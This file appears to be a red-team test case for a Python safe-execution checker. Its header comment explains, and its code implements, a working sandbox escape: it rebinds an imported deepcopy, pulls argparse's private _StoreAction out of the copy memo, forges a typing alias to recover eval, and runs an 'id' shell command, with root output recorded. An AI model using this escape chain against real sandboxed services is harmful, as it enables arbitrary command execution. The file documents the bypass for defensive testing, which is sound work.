# expect: reject dunder
# line: 44
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_16)
# Mechanism (family: an import binding trusted although the program binds the name again): a 
# __deepcopy__ may hand its memo only to copy.deepcopy(value, memo), and is_copy_deepcopy (names.c) 
# recognises copy.deepcopy by the name's import binding alone. 'from copy import deepcopy' then 
# 'deepcopy = grab': the program's grab receives the memo of copy.deepcopy([Box(1), parser]). After 
# the copy the memo holds every object the copy made from the ArgumentParser's private state, among 
# them its _registries['action'] dict: argparse._StoreAction, a private library class, by value (as 
# a dict item, which no rule follows). _StoreAction(option_strings=[], dest='_name') is an Action 
# whose call does setattr(namespace, '_name', values) inside argparse: store(parser, 
# typing.Literal['eval'], '__builtins__') sets the alias's _name (typing's __setattr__ lets _name 
# through). copy.deepcopy of the alias then reduces to operator.getitem(typing's 
# globals()['__builtins__'], 'eval'): eval. No dunder name is given to a builtin at run time 
# (argparse's setattr gets '_name'; '__builtins__' is a value).
# Goal reached: eval by value (typing.Literal alias with a forged _name, through argparse's own setattr), called: 
#   runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'argparse._StoreAction'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import argparse
import copy
import typing
from copy import deepcopy

seen = []


def grab(value, memo):
    seen.append(memo)
    return value


deepcopy = grab


class Box:
    def __init__(self, v):
        self.v = v

    def __deepcopy__(self, memo):
        return Box(deepcopy(self.v, memo))


parser = argparse.ArgumentParser(prog="demo")
copy.deepcopy([Box(1), parser])
act = []
for v in seen[0].values():
    if isinstance(v, dict) and "store" in v:
        act.append(v["store"])
print("by value:", act[0])

lit = typing.Literal["eval"]
store = act[0](option_strings=[], dest="_name")
store(parser, lit, "__builtins__")
ev = copy.deepcopy(lit)
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
